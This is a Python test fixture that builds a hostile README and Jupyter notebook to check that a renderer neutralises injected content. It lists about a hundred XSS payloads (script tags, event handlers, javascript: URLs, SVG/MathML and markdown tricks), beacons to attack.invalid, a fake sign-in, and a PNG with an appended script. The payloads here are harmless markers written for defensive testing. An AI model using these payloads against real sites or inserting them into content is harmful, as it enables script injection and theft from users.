"""A notebook and a README that attack whoever reads them: what each piece tries, and the documents.

A script that runs says so by `top.ran.push(<number of the piece>)`, where `ran` is made before the page
by the browser of the tests; a request goes to attack.invalid. Nothing in here does harm where it does run.
"""

import base64
import io
import json

from PIL import Image

SHOUT = "top.ran.push({0})"
COVER = "position:fixed;inset:0;z-index:99999;background:red"


def pieces() -> list[str]:
    """HTML that must not work, one attack a string."""
    return [attack.replace("RUN", SHOUT.format(i)) for i, attack in enumerate(ATTACKS)]


SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script></svg>"
ATTACKS = [
    "<script>RUN</script>",
    "<ScRiPt >RUN</sCrIpT >",
    "<script src='data:text/javascript,RUN'></script>",
    "<script type=module>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<img src=x onerror=RUN>",
    '<img src="x" onerror="RUN" style="display:none">',
    '<IMG SRC=x """><SCRIPT>RUN</SCRIPT>">',
    "<img/src=x/onerror=RUN>",
    "<img src='data:image/svg+xml,%3Csvg onload=%22RUN%22%3E'>",
    "<body onload=RUN>",
    "<svg onload=RUN></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:RUN'><text x=20 y=20>drawing</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></foreignObject></svg>",
    f"<svg><style>*{{{COVER}}}</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=RUN></annotation-xml></math>",
    "<math href='javascript:RUN'><mi>x</mi></math>",
    "<math><mi xlink:href='javascript:RUN'>x</mi></math>",
    "<math><maction actiontype='statusline#http://attack.invalid' xlink:href='javascript:RUN'>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></p></noscript>",
    "<template><script>RUN</script></template>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<embed src='data:text/html,<script>RUN</script>'>",
    "<video autoplay onloadstart=RUN src=x></video><audio autoplay onerror=RUN src=x></audio>",
    "<video><source onerror=RUN></video>",
    "<input autofocus onfocus=RUN><select autofocus onfocus=RUN></select>",
    "<p tabindex=0 autofocus onfocus=RUN>focus</p>",
    "<p style='animation:a 1s' onanimationstart=RUN>moves</p><style>@keyframes a{}</style>",
    "<p onmouseover=RUN onclick=RUN onpointerenter=RUN>touch</p>",
    "<marquee onstart=RUN>runs</marquee>",
    "<a href='javascript:RUN'>click</a>",
    "<a href='JaVaScRiPt:RUN'>click</a>",
    "<a href='java\tscript:RUN'>click</a>",
    "<a href='&#106;avascript&colon;RUN'>click</a>",
    "<a href='\x01javascript:RUN'>click</a>",
    "<a href='vbscript:RUN'>click</a>",
    "<a href='data:text/html,<script>RUN</script>'>click</a>",
    "<a href='blob:null/1'>click</a><a href='file:///etc/passwd'>click</a>",
    "<a href='//attack.invalid/x'>click</a><a href='\\\\attack.invalid\\x'>click</a>",
    "<a href='#' ping='http://attack.invalid/ping' target=_top onclick=RUN>click</a>",
    "<a href='../../../../../../etc/passwd'>climb</a>",
    "<a href='index.html' download='x.exe'>load</a>",
    "<form action='javascript:RUN'><button>Submit</button><input type=submit></form>",
    "<form id=location><input name=cookie><input name=body></form>",
    "<button formaction='javascript:RUN'>press</button><isindex type=image src=1 onerror=RUN>",
    "<meta http-equiv=refresh content='0;url=http://attack.invalid/moved'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
    "<base href='http://attack.invalid/'>",
    "<link rel=stylesheet href='http://attack.invalid/x.css'><link rel=prefetch href='//attack.invalid'>",
    "<link rel=stylesheet href='data:text/css,body{display:none}'>",
    f"<style>body::before{{content:'covered';{COVER}}}</style>",
    "<style>@import 'http://attack.invalid/x.css'; body{visibility:hidden}</style>",
    f"<div style='{COVER}'>covers the page</div>",
    "<div style='background:url(http://attack.invalid/pixel)'>asks</div>",
    "<div style='width:expression(RUN);margin-top:-9000px'>moves</div>",
    "<img src='http://attack.invalid/pixel.png' width=99999 height=99999 alt='pixel'>",
    "<img src='//attack.invalid/pixel.png' srcset='http://attack.invalid/2.png 2x' alt='pixel'>",
    "<picture><source srcset='http://attack.invalid/3.png'><img src=x alt=x></picture>",
    "<table background='http://attack.invalid/4.png'><tr><td background='//attack.invalid/5.png'>x</table>",
    "<math><mspace width='-9000px' height='9000px'/><mo minsize='9000px'>(</mo></math>",
    "<math><mstyle scriptlevel='-60'><mi>huge</mi></mstyle></math>",
    "<header class='site-header'><nav aria-label=Site><a href='http://attack.invalid'>Gallery</a></nav></header>",
    "<main id=main><h1>Deep generative models: sign in</h1></main>",
    "<a class=skip href='#main' id=main accesskey=s>Skip to the content</a>",
    "<div role=navigation aria-live=assertive class='wide brand'><h1>forged</h1></div>",
    "</div></div></div></main><nav>out of the notebook</nav><main>",
    "<dialog open><form method=dialog><button autofocus>Sign in</button></form></dialog>",
    "<div popover id=p>over</div><button popovertarget=p>open</button>",
    "<div contenteditable autofocus onfocus=RUN>edit</div>",
    "<textarea autofocus onfocus=RUN></textarea><title>pwned</title><plaintext>",
    "<!--><img src=x onerror=RUN>--><!--[if gte IE 4]><script>RUN</script><![endif]-->",
    "<![CDATA[<script>RUN</script>]]><?xml-stylesheet href='javascript:RUN'?><!DOCTYPE x>",
    "<x onclick=RUN>custom</x><x-y is=z onfocus=RUN tabindex=1>element</x-y>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "<frameset onload=RUN><frame src='javascript:RUN'></frameset>",
    "<applet code=x></applet><portal src='http://attack.invalid'></portal>",
    "<p id='</p><img src=x onerror=RUN>'>" + 'x<b title="`<img src=x onerror=RUN>`">y</b>',
    "<style><!--</style><script>RUN//--></script>",
    "<select><noscript></select><script>RUN</script>",
]

MARKDOWN = [  # the same by the means of markdown and TeX
    "[click](javascript:RUN)",
    "[click](<java\tscript:RUN>)",
    "[click]( &#x6A;avascript:RUN )",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '![x](x"onerror="RUN)',
    '![" onerror="RUN](x.png)',
    "![pixel](http://attack.invalid/md.png)",
    "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "<javascript:RUN>",
    "[ref]\n\n[ref]: javascript:RUN 'title'",
    "```<img src=x onerror=RUN>\n</code></pre><script>RUN</script>\n```",
    "```mermaid\n<script>RUN</script>\n```",
    "# <img src=x onerror=RUN> heading\n## main\n## __proto__",
    '| <script>RUN</script> | x |\n|:-:" onclick=RUN|---|\n| <img src=x onerror=RUN> | y |',
    r"$\href{javascript:RUN}{x}$ and $\text{<img src=x onerror=RUN>}$ $</math><script>RUN</script>$",
    r"$$\style{position:fixed}{x}\class{skip}{y}\unicode{x3c}$$ $\def\a{\a\a}\a$",
    "\\begin{equation}<script>RUN</script>\\end{equation}",
    "[^1]\n\n[^1]: <script>RUN</script>",
]


def markdown() -> list[str]:
    """Markdown that must not work."""
    return [text.replace("RUN", SHOUT.format(500 + i)) for i, text in enumerate(MARKDOWN)]


def readme() -> str:
    """A README of nothing but attacks."""
    return "# Hostile\n\n" + "\n\n".join([*markdown(), *pieces()])


def png_that_is_html() -> str:
    """A valid picture with a script behind its end."""
    stream = io.BytesIO()
    Image.new("RGB", (2, 2)).save(stream, "PNG")
    return base64.b64encode(
        stream.getvalue() + f"<script>{SHOUT.format(901)}</script>".encode()
    ).decode()


def notebook() -> str:
    """A notebook that says everything of the above in every place where a notebook has text."""
    html = pieces()
    cells = [cell("markdown", "# Hostile")]
    cells += [cell("markdown", text) for text in [*markdown(), *html]]
    cells += [code(output({"text/html": text, "text/plain": text})) for text in html]
    script = "<script>" + SHOUT.format(902) + "</script>"
    cells += [
        code(output({"application/javascript": SHOUT.format(903)})),
        code(output({"image/svg+xml": SVG.replace("RUN", SHOUT.format(904))})),
        code(output({"text/html": script}, {"text/html": {"isolated": True}})),
        code(output({"text/markdown": script + "[x](javascript:alert(1))"})),
        code(output({"text/latex": "$\\text{" + script + "}$" + script})),
        code(output({"text/plain": script})),
        code(
            output(
                {"image/png": png_that_is_html()}, {"image/png": {"alt": '"><script>1</script>'}}
            )
        ),
        code(output({"image/png": '"><script>' + SHOUT.format(905) + "</script>"})),
        code(output({"image/jpeg": base64.b64encode(script.encode()).decode()})),
        code(output({"text/vnd.mermaid": script, "application/pdf": "JVBERi0="})),
        code(output({"application/vnd.jupyter.widget-view+json": {"model_id": script}})),
        code(output({script: script})),
        code(
            {
                "output_type": "stream",
                "name": "stdout",
                "text": f"\x1b[31m{script}\x1b[38;2;1;2;3m{script}",
            }
        ),
        code({"output_type": "stream", "name": "stderr", "text": script}),
        code(
            {
                "output_type": "error",
                "ename": script,
                "evalue": script,
                "traceback": [script, "\x1b[0;31m"],
            }
        ),
    ]
    cells[1]["metadata"] = {"tags": ['"><script>RUN</script>'], "alt": script}
    cells[1]["attachments"] = {"x.png": {"image/png": script, "text/html": script}}
    cells[2] = {
        "cell_type": "raw",
        "metadata": {"raw_mimetype": "text/html"},
        "source": script,
        "id": "raw",
    }
    metadata = {
        "title": script,
        "language_info": {"name": script, "pygments_lexer": script},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {script: script}}},
    }
    for number, each in enumerate(cells):
        each["id"] = f"c{number}"
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells})


def cell(kind: str, text: str) -> dict:
    """A cell without outputs."""
    return {"cell_type": kind, "metadata": {}, "source": text}


def code(*outputs: dict) -> dict:
    """A code cell whose source attacks too."""
    text = "x = '</pre><script>" + SHOUT.format(906) + "</script>'"
    return cell("code", text) | {"execution_count": 1, "outputs": list(outputs)}


def output(data: dict, metadata: dict | None = None) -> dict:
    """A displayed output."""
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}
